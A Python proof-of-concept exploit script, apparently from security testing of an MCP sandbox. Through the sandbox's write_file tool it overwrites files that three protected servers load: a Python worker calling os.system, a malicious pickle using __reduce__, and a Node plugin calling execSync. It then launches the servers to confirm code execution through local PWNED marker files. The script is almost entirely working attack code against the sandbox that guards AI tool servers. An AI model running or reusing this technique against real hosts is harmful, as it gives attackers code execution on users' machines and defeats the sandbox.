#!/usr/bin/env python3
"""F1 end to end: after f1_loaders.py's setup, a call's write_file rewrites what three protected MCP servers load
(subprocess.run of a worker, pickle.load of a model, module[k] of a plugin); the host then starts the servers as the
client would (`python3 s6/main.py`, `python3 s4/main.py`, `node s10/index.js` in the workspace) and runs the call's code."""
import sys, os, subprocess, pickle, base64
sys.path.insert(0, os.path.dirname(os.path.abspath(__file__)))
from stdio import Stdio, text
ws = "/tmp/atk40b/ws"
subprocess.run("rm -f /tmp/atk40b/PWNED-*", shell=True)
class P:
    def __reduce__(self): return (os.system, ("id > /tmp/atk40b/PWNED-pickle",))
pk = pickle.dumps(P(), protocol=0).decode("latin-1")   # protocol 0: ASCII, write_file takes text
s = Stdio(["/tmp/atk40b/mcpsandbox", "serve", "--policy", "/tmp/atk40b/wc.toml"], env={"HOME": "/tmp/atk40b/home", "PATH": "/usr/bin:/bin"}, err="/tmp/atk40b/f1.log")
for p, c in [("s6/worker.py", "import os; os.system('id > /tmp/atk40b/PWNED-subprocess')\n"),
             ("s4/model.pkl", pk),
             ("s10/plugin.js", "require('child_process').execSync('id > /tmp/atk40b/PWNED-module-computed');\n")]:
    print(f"write_file {p}:", text(s.call("write_file", {"path": p, "content": c})).strip().replace("\n", " | ")[-120:])
s.close()
print("--- the host starts the servers (as the client does)")
for argv in (["python3", "s6/main.py"], ["python3", "s4/main.py"], ["node", "s10/index.js"]):
    subprocess.run(argv, cwd=ws, timeout=20, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
subprocess.run("for f in /tmp/atk40b/PWNED-*; do echo \"$f: $(cat $f)\"; done", shell=True)
